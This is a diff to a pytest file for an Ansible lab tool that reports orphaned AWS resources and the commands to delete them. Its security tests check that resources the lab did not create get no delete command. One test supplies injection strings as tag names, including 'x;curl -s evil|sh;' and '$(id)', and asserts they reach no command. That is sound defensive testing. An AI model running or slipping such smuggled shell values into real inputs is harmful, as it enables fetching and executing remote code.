@@ -8,8 +8,10 @@ from ansible_collections.desi.lab.plugins.module_utils._aws.pricing import from_
 from ansible_collections.desi.lab.plugins.module_utils._aws.tags import as_tag_list, lab_tags
 from ansible_collections.desi.lab.plugins.module_utils._doctor.aws_orphans import judge_orphans, orphans
 from ansible_collections.desi.lab.plugins.module_utils._doctor.findings import OK, WARNING
+from ansible_collections.desi.lab.plugins.module_utils._ec2.record import LabRecord
 from ansible_collections.desi.lab.plugins.module_utils._ec2.resources import KINDS
 
+RECORD = LabRecord("1", "aws", "", "r", "old", "ann", {"disk": ("vol-1", "vol-2")})
 REGION = {"gib_month": 0.08, "snapshot_gib_month": 0.05}
 PRICES = from_table({"date": "2026-11-01", "ipv4_hour": 0.005, "regions": {"r": REGION}}, "r", ())
 
@@ -21,7 +23,7 @@ def resource(lab="old", **facts):
 EVERY = {
     "spot request": resource(SpotInstanceRequestId="sir-1", State="open"),
     "disk": resource(VolumeId="vol-1", Size=30, State="available"),
-    "snapshot": resource(SnapshotId="snap-1", VolumeSize=30, State="completed"),
+    "snapshot": resource(SnapshotId="snap-1", VolumeId="vol-1", VolumeSize=30, State="completed"),
     "address": resource(AllocationId="eipalloc-1", PublicIp="203.0.113.7"),
     "network interface": resource(NetworkInterfaceId="eni-1", Status="available"),
     "security group": resource(GroupId="sg-1", GroupName="jupyter"),
@@ -34,8 +36,8 @@ def found(*more, **kinds):
     return {**{kind: [] for kind in KINDS}, **{name.replace("_", " "): resources for name, resources in kinds.items()}}
 
 
-def rows(what, prices=PRICES, busy=(), region="r"):
-    return orphans(what, region, prices, busy)
+def rows(what, prices=PRICES, busy=(), region="r", record=None):
+    return orphans(what, region, prices, busy, lambda lab: record if lab == "old" else None)
 
 
 def instance(lab="old", state="stopped"):
@@ -56,8 +58,8 @@ def test_every_kind_of_thing_has_its_cost_and_the_command_that_removes_it():
         "spot request": (0.0, down),
         "disk": (2.4, down),
         "snapshot": (1.5, f"{down} -e lab_purge=true"),
-        "address": (3.65, "aws ec2 release-address --allocation-id eipalloc-1 --region r"),
-        "network interface": (0.0, "aws ec2 delete-network-interface --network-interface-id eni-1 --region r"),
+        "address": (3.65, ""),
+        "network interface": (0.0, ""),
         "security group": (0.0, down),
         "key pair": (0.0, down),
         "schedule group": (0.0, down),
@@ -65,20 +67,40 @@ def test_every_kind_of_thing_has_its_cost_and_the_command_that_removes_it():
     assert set(told) == set(KINDS) - {"machine"}
 
 
+@pytest.mark.security("M4")
 @pytest.mark.parametrize("state", ["running", "stopped", "stopping", "pending", "shutting-down"])
 def test_what_a_lab_with_a_machine_uses_is_no_orphan_and_what_is_billed_beside_it_is(state):
     attached = resource(VolumeId="vol-2", Size=30, State="in-use", Attachments=[{"InstanceId": "i-1"}])
+    backup = resource(SnapshotId="snap-2", VolumeId="vol-2", VolumeSize=30)
+    foreign = [resource(VolumeId="vol-prod", Size=1), resource(SnapshotId="snap-prod", VolumeId="vol-prod")]
     used = resource(AllocationId="eipalloc-2", PublicIp="203.0.113.8", AssociationId="eipassoc-1")
     what = {kind: [item] for kind, item in EVERY.items()}
-    what = {**what, "disk": [EVERY["disk"], attached], "address": [EVERY["address"], used]}
-    listed = rows({**what, "machine": [instance(state=state)]})
-    # None of these commands touches the lab.
+    what = {**what, "disk": [EVERY["disk"], attached, foreign[0]], "address": [EVERY["address"], used]}
+    what = {**what, "snapshot": [EVERY["snapshot"], backup, foreign[1]], "machine": [instance(state=state)]}
+    listed = rows(what, record=RECORD)
+    # None of these commands touches the lab, nor what has its tags and was not made here.
     assert {row["id"]: (row["usd_month"], row["command"]) for row in listed} == {
         "vol-1": (2.4, "aws ec2 delete-volume --volume-id vol-1 --region r"),
         "snap-1": (1.5, "aws ec2 delete-snapshot --snapshot-id snap-1 --region r"),
-        "eipalloc-1": (3.65, "aws ec2 release-address --allocation-id eipalloc-1 --region r"),
+        "eipalloc-1": (3.65, ""),
+        "vol-prod": (0.08, ""),
+        "snap-prod": (0.0, ""),
     }
-    assert all("An earlier machine of lab old left it in r" in line.why for line in judge_orphans(listed, ["r"]))
+    judged = {line.do: line.why for line in judge_orphans(listed, ["r"])}
+    strange = judged.pop("see in the AWS console what it is, before you remove anything")
+    assert "does not remember having made it" in strange
+    assert len(judged) == 2
+    assert all("An earlier machine of lab old left it in r" in why for why in judged.values())
+    assert not any(row["command"] for row in rows(what))
+
+
+@pytest.mark.security("M4")
+@pytest.mark.parametrize("name", ["x;curl -s evil|sh;", "x -e lab_purge=true", "$(id)", "../old", "old\n", ""])
+def test_a_name_in_a_tag_that_no_lab_has_is_in_no_command(name):
+    listed = orphans(found(key_pair=[resource(name, KeyPairId="key-1", KeyName="k")]), "r", PRICES, (), {}.__getitem__)
+    (line,) = judge_orphans(listed, ["r"])
+    assert listed[0]["command"] == ""
+    assert line.do.startswith("see in the AWS console")
 
 
 @pytest.mark.parametrize(
